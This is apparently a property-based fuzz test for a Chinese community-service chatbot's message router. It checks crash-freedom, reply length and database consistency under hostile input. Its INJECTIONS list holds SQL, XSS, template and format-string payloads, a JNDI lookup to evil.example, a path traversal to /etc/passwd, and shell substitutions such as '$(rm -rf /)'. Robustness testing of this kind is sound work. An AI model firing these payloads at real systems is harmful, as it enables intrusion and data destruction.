"""Hostile input through the router: 10,000 generated messages (hypothesis, derandomized).

Very long text, control / zero-width / bidi characters, mixed scripts, injection strings (SQL, HTML,
templates, JNDI, format strings), malformed commands, impossible dates, huge party sizes, other
people's codes, hostile display names — in the grid groups, the staff group, an unknown group and
private chat, from residents, workers, an admin and a department. Each example is a batch that goes
through `Dispatcher.submit` (group commit, one savepoint per message, as in the service).

What must hold: no exception escapes a handler (the router would log "handler failed"), no job
fails on the data left behind, every reply is short (≤ 600 characters) and contains Chinese, and the
database stays consistent (needs in a lifecycle state, no overbooked room, no event over capacity)."""

from __future__ import annotations

import asyncio
import itertools
import logging
import re
from collections import defaultdict
from datetime import timedelta
import pytest
from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st
from sqlalchemy import select

from kernel.message import IncomingMessage
from models.outbox import OutboxMessage

MAX_REPLY = 600         # what the asker reads in the chat they wrote in
MAX_FORWARD = 1600      # a notice to staff may quote the resident's text (the router caps it at 1,000)
HAN = re.compile(r"[\u4e00-\u9fff]")

GROUPS = ["网格1一家亲", "网格2一家亲", "网格3一家亲"]
CHATS = GROUPS * 3 + ["锦城社区工作群", "私聊", "私聊", "陌生人的群"]
RESIDENTS = ["wx_zhang", "wx_ma", "wx_lin", "wx_qian", "wx_yang", "r_guest1", "r_guest2"]
STAFF = ["wx_wang", "wx_zhao", "wx_sun", "wx_li", "wx_cg", "wx_mz"]

INJECTIONS = [
    "'; DROP TABLE needs;--", "\" OR 1=1 --", "1); DELETE FROM bookings; --", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "{{7*7}}", "{% for x in range(9) %}x{% endfor %}", "${7*7}",
    "${jndi:ldap://evil.example/a}", "%s%s%s%n", "{0}{name}{__class__}", "\\x00\\n\\r", "../../etc/passwd",
    "$(rm -rf /)", "`reboot`", "NULL", "None", "undefined", "NaN", "-1", "0", "9" * 40, "１２３", "一万",
]
WEIRD = [
    "\u200b", "\u200c\u200d", "\ufeff", "\u202e", "\u2066", "\x00", "\x07", "\x1b[31m", "\r\n", "\n\n\n", "\t",
    "\u3000", "：", "，", "🙂", "👨‍👩‍👧‍👦", "\U0001f600" * 5, "ض", "Ж", "한국어", "日本語テキスト", "ＡＢＣ",
    "𠀀𠀁", "̵̡̢̛̗̘̙̜̝̞̟̠̖", "\ud7ff",
]
WORDS = [
    "预约", "取消", "我的预约", "报名", "取消报名", "我的报名", "树洞", "签到", "满意", "基本满意", "不满意",
    "接单", "回复", "转派", "退单", "办结", "待办", "查", "统计", "发布活动", "签收", "邀请", "绑定", "审批",
    "拒绝", "改活动", "取消活动", "移除报名", "名单", "爽约", "推送列表", "暂停推送", "立即推送", "问卷", "投票",
    "接龙", "+1", "+3", "帮助", "报修", "投诉", "求助", "@小助手", "@小助手 ", "改约", "封场", "人气", "利用率",
    "定时通知", "问卷结果", "结束问卷",
]
ROOMS = ["钢琴房", "自习室", "乒乓球室", "会议室", "多功能厅", "琴房", "不存在的房间", "钢琴房钢琴房钢琴房"]
TIMES = [
    "明天下午3点到5点", "2月30日25点", "13月45日", "昨天下午3点", "明天25点到26点", "今天0点到24点", "周八上午",
    "下下下周三晚上7点半", "后天14:00-16:00", "明天下午5点到3点", "1999年1月1日", "9999年12月31日",
    "明天上午9点到明年", "明天下午3点到3点", "三十二点", "每周二晚上7点", "2026-02-29 10:00", "12:61",
]
PARTY = ["1人", "2人", "99999人", "0人", "-3人", "1e9人", "一万人", "两人", "三十人", "9" * 30 + "人", "半人"]
CODES = ["D20261123-0001", "d20261123-0001", "D20261123-9999", "D2026-99", "B101", "b101", "B-1", "B999999",
         "E101", "e101", "E0", "E99999", "Bx", "D00000000-0000"]
NAMES = ["张阿姨", "<b>王</b>", "'; DROP TABLE--", "\u202e阿姨", "🌸花花🌸", "a" * 40, "李" * 30, "", " ",
         "{name}", "%s", "\u200b", "名" * 80, "\x00零"]   # a gateway may send any display name


def _fragment() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(WORDS), st.sampled_from(ROOMS), st.sampled_from(TIMES), st.sampled_from(PARTY),
        st.sampled_from(CODES), st.sampled_from(INJECTIONS), st.sampled_from(WEIRD),
        st.text(max_size=12),
        st.text(alphabet=st.characters(min_codepoint=0x4E00, max_codepoint=0x9FFF), max_size=10),
    )


def _text() -> st.SearchStrategy[str]:
    composed = st.builds(
        lambda head, parts, seps: head + "".join(s + p for s, p in zip(seps, parts)),
        st.sampled_from(WORDS),
        st.lists(_fragment(), max_size=6),
        st.lists(st.sampled_from([" ", "", "\u3000", ":", "：", "\n", ","]), min_size=6, max_size=6),
    )
    long = st.builds(lambda head, body, n: head + body * n, st.sampled_from(WORDS + [""]),
                     st.sampled_from(["啊", "x", "🙂", "\u200b", "报名", "<>", "'"]), st.integers(300, 4000))
    return st.one_of(composed, composed, composed, long, st.text(max_size=200), st.sampled_from(INJECTIONS),
                     st.lists(st.sampled_from(WEIRD + WORDS), max_size=8).map("".join))


MESSAGE = st.tuples(st.sampled_from(CHATS), st.sampled_from(RESIDENTS * 3 + STAFF), _text(),
                    st.sampled_from(NAMES + [""] * 6), st.booleans())
BATCH = st.lists(MESSAGE, min_size=50, max_size=50)
# 4 tests × 50 examples × 50 messages = 10,000 messages (per database backend).
FUZZ = settings(max_examples=50, deadline=None, database=None, phases=[Phase.generate],
                suppress_health_check=list(HealthCheck))


class Fuzzer:
    """Feeds batches to the harness's dispatcher and checks every reply and the database."""

    def __init__(self, harness, caplog: pytest.LogCaptureFixture) -> None:  # type: ignore[no-untyped-def]
        self.h = harness
        self.caplog = caplog
        self.ids = itertools.count(1)
        self.seen_outbox = 0
        self.messages = 0
        self.texts: dict[str, str] = {}
        self.chats: dict[str, tuple[str, str]] = {}   # message id -> (chat kind, chat id) it came from
        self.problems: dict[str, str] = {}            # kind of problem -> first example

    async def setup(self) -> None:
        """State to attack: an event, a need, a booking, all from other people."""
        h = self.h
        await h.say("私聊", "wx_wang", "发布活动 反诈讲座 明天下午3点 社区广场 名额20 群 网格1,网格2,网格3")
        await h.say("网格1一家亲", "wx_zhang", "@小助手 3栋电梯又坏了")
        await h.say("网格1一家亲", "wx_zhang", "预约 钢琴房 明天下午3点到5点")
        await h.say("网格2一家亲", "wx_ma", "报名 反诈讲座 2人")
        self.seen_outbox = await self._max_outbox_id()

    async def _max_outbox_id(self) -> int:
        async with self.h.core.sessions() as s:
            return max((await s.scalars(select(OutboxMessage.id))).all(), default=0)

    async def run(self, batch: list[tuple[str, str, str, str, bool]]) -> None:
        h = self.h
        config = h.config
        msgs = []
        for chat, sender, text, name, mention in batch:
            mid = f"fuzz-{next(self.ids)}"
            private = chat == "私聊"
            if mention and not private:
                text = f"@{config.bot_name} {text}"
            self.texts[mid] = text
            self.chats[mid] = ("private", sender) if private else ("group", chat)
            msgs.append(IncomingMessage(
                id=mid, account=config.bot_id, channel="fuzz", sender_id=sender, sender_name=name or sender,
                text=text, at=h.clock.now(), group_id=None if private else chat,
                group_topic=None if private else chat, mentions_bot=mention and not private))
        self.caplog.clear()
        await asyncio.gather(*(h.core.dispatcher.submit(m) for m in msgs))
        self.messages += len(msgs)
        self.check_logs()
        await self.check_replies()

    def problem(self, kind: str, example: str) -> None:
        self.problems.setdefault(kind, example)

    def check_logs(self) -> None:
        for r in self.caplog.records:
            if r.levelno < logging.ERROR and "handler failed" not in r.getMessage():
                continue
            mid = re.search(r"fuzz-\d+", r.getMessage())
            errors = [line for line in (r.exc_text or "").splitlines()
                      if re.match(r"^[\w.]+(Error|Exception)\b", line)] or [r.getMessage()]
            self.problem(f"{r.name}: {errors[-1][:160]}",
                         f"{r.getMessage()} — text {self.texts.get(mid.group(0)) if mid else None!r}\n"
                         f"{(r.exc_text or '')[-2000:]}")

    def assert_clean(self) -> None:
        if self.problems:
            raise AssertionError(f"{len(self.problems)} kinds of problem in {self.messages} messages:\n\n" +
                                 "\n\n".join(f"* {k}\n  {v[:1500]}" for k, v in self.problems.items()))

    async def check_replies(self) -> None:
        async with self.h.core.sessions() as s:
            rows = list((await s.scalars(select(OutboxMessage).where(OutboxMessage.id > self.seen_outbox)
                                         .order_by(OutboxMessage.id))).all())
        if rows:
            self.seen_outbox = rows[-1].id
        for row in rows:
            mid = row.key.split(":")[2] if row.key.startswith("msg:") else None
            asked = self.texts.get(mid or "", "(scheduled)")
            to_asker = mid is not None and self.chats.get(mid) == (row.chat_kind, row.chat_id)
            limit = MAX_REPLY if to_asker else MAX_FORWARD
            if len(row.text) > limit:
                self.problem(f"{'reply' if to_asker else 'notice'} longer than {limit}: {_template(row.text)}",
                             f"{len(row.text)} chars answering {_fold(asked)[:120]!r}: {_fold(row.text)[:300]!r}")
            if not HAN.search(row.text):
                self.problem(f"no Chinese: {row.text[:40]!r}", f"answering {asked[:200]!r}: {row.text!r}")

    async def tick(self, minutes: int) -> None:
        """Jump ahead and let scheduled jobs run once over what the fuzz left behind."""
        self.caplog.clear()
        await self.h.set_clock((self.h.clock.now() + timedelta(minutes=minutes))
                               .astimezone(self.h.config.timezone).replace(tzinfo=None).isoformat())
        self.check_logs()
        await self.check_replies()

    async def check_database(self) -> None:
        try:
            await check_consistency(self.h)
        except AssertionError as exc:
            self.problem(f"database inconsistent: {str(exc)[:120]}", repr(exc))


def _template(text: str) -> str:
    """A long reply's shape without the echoed input (runs of one character folded)."""
    return re.sub(r"(.)\1{2,}", r"\1…", "".join(HAN.findall(text)))[:40]


def _fold(text: str) -> str:
    return re.sub(r"(.)\1{5,}", lambda m: f"{m.group(1)}×{len(m.group(0))}", text)


def generate(strategy: st.SearchStrategy, fixed_seed: int, examples: int = 50) -> list:  # type: ignore[type-arg]
    """Draw the examples with hypothesis (a fixed seed: the same on every run), to run them afterwards
    in the test's event loop, and report every kind of problem at once rather than the first one."""
    drawn: list = []  # type: ignore[type-arg]

    @seed(fixed_seed)
    @settings(FUZZ, max_examples=examples)
    @given(strategy)
    def collect(value) -> None:  # type: ignore[no-untyped-def]
        drawn.append(value)

    collect()
    return drawn


async def check_consistency(h) -> None:  # type: ignore[no-untyped-def]
    """Invariants over the capability tables that exist in this build."""
    import importlib.util

    config = h.config
    async with h.core.sessions() as s:
        if importlib.util.find_spec("models.needs"):
            from models.needs import Need, NeedEvent, Status

            valid = {st_.value for st_ in Status}
            needs = list((await s.scalars(select(Need))).all())
            assert {n.status for n in needs} <= valid, {n.status for n in needs} - valid
            codes = {n.code for n in needs}
            for n in needs:
                assert re.fullmatch(r"D\d{8}-\d{4}", n.code), n.code
                assert (n.status == Status.MERGED) <= (n.merged_into in codes), (n.code, n.merged_into)
            events = list((await s.scalars(select(NeedEvent))).all())
            assert {e.to_status for e in events} <= valid
        if importlib.util.find_spec("models.booking"):
            from models.booking import HOLDING, Booking

            held: dict[str, list[Booking]] = defaultdict(list)
            for b in (await s.scalars(select(Booking).where(Booking.status.in_(HOLDING)))).all():
                assert b.start_at < b.end_at, b.code
                assert 1 <= b.party_size, b.code
                held[b.room_name].append(b)
            for room_name, bookings in held.items():
                room = next((r for r in config.rooms if r.name == room_name), None)
                assert room is not None, room_name
                points = sorted({b.start_at for b in bookings})
                for t in points:
                    here = [b for b in bookings if b.start_at <= t < b.end_at]
                    if room.per_seat:
                        assert sum(b.party_size for b in here) <= room.capacity, (room_name, t, [b.code for b in here])
                    else:
                        assert len(here) <= 1, (room_name, t, [b.code for b in here])
        if importlib.util.find_spec("models.events"):
            from models.events import HOLDING as SIGNUP_HOLDING
            from models.events import Event, Signup

            for ev in (await s.scalars(select(Event))).all():
                taken = sum((await s.scalars(select(Signup.party_size).where(
                    Signup.event_id == ev.id, Signup.status.in_(SIGNUP_HOLDING)))).all())
                assert taken <= ev.capacity, (ev.title, taken, ev.capacity)


@pytest.fixture
async def fuzzer(harness, caplog: pytest.LogCaptureFixture):  # type: ignore[no-untyped-def]
    caplog.set_level(logging.WARNING)
    f = Fuzzer(harness, caplog)
    await f.setup()
    return f


async def test_fuzz_mixed(fuzzer: Fuzzer) -> None:
    for batch in generate(BATCH, 1):
        await fuzzer.run(batch)
    await fuzzer.check_database()
    fuzzer.assert_clean()


async def test_fuzz_with_time_passing(fuzzer: Fuzzer) -> None:
    """Scheduled jobs (reminders, clocks, rosters, releases) run over the hostile state in between."""
    for batch in generate(BATCH, 2):
        await fuzzer.run(batch)
        await fuzzer.tick(31)   # 50 batches: a day and more — reminders, clocks, releases, no-shows
    await fuzzer.check_database()
    fuzzer.assert_clean()


COMMANDS_ONLY = st.lists(st.tuples(
    st.sampled_from(CHATS), st.sampled_from(RESIDENTS + STAFF * 2),
    st.builds(lambda w, a, b, c: f"{w} {a} {b} {c}", st.sampled_from(WORDS), st.sampled_from(ROOMS + CODES),
              st.sampled_from(TIMES + CODES + INJECTIONS), st.sampled_from(PARTY + INJECTIONS + WEIRD)),
    st.sampled_from(NAMES), st.booleans()), min_size=50, max_size=50)


async def test_fuzz_malformed_commands(fuzzer: Fuzzer) -> None:
    """Every command word with the wrong kind of argument: codes where rooms go, garbage times, …"""
    for batch in generate(COMMANDS_ONLY, 3):
        await fuzzer.run(batch)
    await fuzzer.check_database()
    fuzzer.assert_clean()


async def test_fuzz_consistency_after_every_batch(fuzzer: Fuzzer) -> None:
    for batch in generate(BATCH, 4):
        await fuzzer.run(batch)
        await fuzzer.check_database()
    fuzzer.assert_clean()


LONG = "长" * 700


async def test_every_command_word_with_a_long_argument(fuzzer: Fuzzer) -> None:
    """Deterministic companion of the fuzz: each command word followed by 700 characters, from a
    resident and from a worker, in a group (with and without @) and in private — a reply must not
    echo the whole argument back."""
    batch = [(chat, sender, f"{word} {LONG}", "", mention)
             for word in WORDS for sender in ("wx_zhang", "wx_wang")
             for chat, mention in (("网格1一家亲", False), ("网格1一家亲", True), ("私聊", False))]
    for i in range(0, len(batch), 50):
        await fuzzer.run(batch[i:i + 50])
    fuzzer.assert_clean()


async def test_hostile_display_names_on_the_happy_paths(fuzzer: Fuzzer) -> None:
    """Random text seldom makes a valid booking; here every display name a gateway might send goes
    through the paths that store it: a need, a booking, a signup, a 接龙 line, a 树洞."""
    hours = itertools.count(9)
    batch = []
    for i, name in enumerate(NAMES):
        who = f"r_name{i}"
        hour = next(hours) % 12 + 9
        batch += [("网格1一家亲", who, f"{i % 5 + 1}栋楼道灯坏了好几天了", name, True),
                  ("网格2一家亲", who, f"预约 自习室 明天{hour}点到{hour + 1}点", name, False),
                  ("网格3一家亲", who, "报名 反诈讲座", name, False),
                  ("私聊", who, "树洞 楼上半夜总是很吵,不好意思当面说", name, False)]
    await fuzzer.run(batch)
    fuzzer.assert_clean()
    async with fuzzer.h.core.sessions() as s:
        rows = (await s.scalars(select(OutboxMessage.text).where(OutboxMessage.key.like("msg:%")))).all()
    assert sum("已预约" in t for t in rows) >= len(NAMES)    # the bookings really went through
